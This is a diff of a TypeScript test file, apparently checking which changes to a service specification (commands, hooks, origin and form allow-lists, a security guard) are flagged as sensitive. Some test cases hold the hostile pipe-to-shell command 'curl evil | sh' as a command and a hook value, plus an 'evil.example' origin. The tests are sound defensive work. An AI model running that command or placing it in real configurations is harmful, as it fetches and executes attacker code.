@@ -72,6 +72,19 @@ describe("a change of", () => {
   test.each<[what: string, before: Partial<ServiceSpec>, after: Partial<ServiceSpec>, key: string]>(
     [
       ["the command", {}, { command: "curl evil | sh" }, "command"],
+      ["what lets other sites in", {}, { settings: { guard: "off" } }, "guard"],
+      [
+        "what lets one site in",
+        {},
+        { settings: { allowOrigins: ["https://evil.example"] } },
+        "allow_origins",
+      ],
+      [
+        "what lets forms in",
+        { settings: { allowPosts: [] } },
+        { settings: { allowPosts: ["/login"] } },
+        "allow_posts",
+      ],
       ["a hook", {}, { hooks: { before_stop: "curl evil | sh" } }, "before_stop"],
       [
         "a hook's own variable",
@@ -188,6 +201,7 @@ describe("a change of", () => {
   test.each<[what: string, after: Partial<ServiceSpec>]>([
     ["a port", { port: 3000 }],
     ["another variable", { env: { LOG: "debug", DATABASE_URL: "x" } }],
+    ["forwarded", { settings: { forwarded: "none" } }],
     ["watch", { watch: ["src/**"] }],
     ["depends_on", { dependsOn: ["db"] }],
     ["lazy and idle_timeout", { lazy: true, idleTimeout: 1000 }],
